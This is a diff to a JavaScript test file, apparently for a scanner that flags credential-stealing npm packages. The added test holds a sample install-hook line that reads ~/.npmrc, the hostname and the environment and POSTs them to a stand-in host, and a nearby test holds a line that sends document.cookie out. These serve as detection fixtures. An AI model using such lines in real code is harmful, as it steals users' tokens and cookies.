@@ -28,6 +28,11 @@ describe('theft', () => {
     ])
   })
 
+  it('shows what it is about alone of what is sent together', () => {
+    const all = `const os = require('os'), fs = require('fs'), d = { h: os.hostname(), t: fs.readFileSync(os.homedir() + '/.npmrc'), e: process.env }; fetch('https://a.stranger.example', { method: 'POST', body: JSON.stringify(d) })`
+    expect(found('install-hook', all)?.evidence.map(({ says }) => says)).toEqual(['fs.readFileSync reads <home>/.npmrc', 'fetch sends it to https://a.stranger.example'])
+  })
+
   it('leaves a page its own cookies', () => {
     const page = packageOf({ says: '', ecosystem: 'npm', files: { 'package.json': '{}', 'i.js': `fetch('https://a.stranger.example?' + document.cookie)` }, triggers: [{ kind: 'import', name: 'i', file: 'i.js' }] })
     expect(findingsIn(page, stealsBrowserData)).toEqual([])
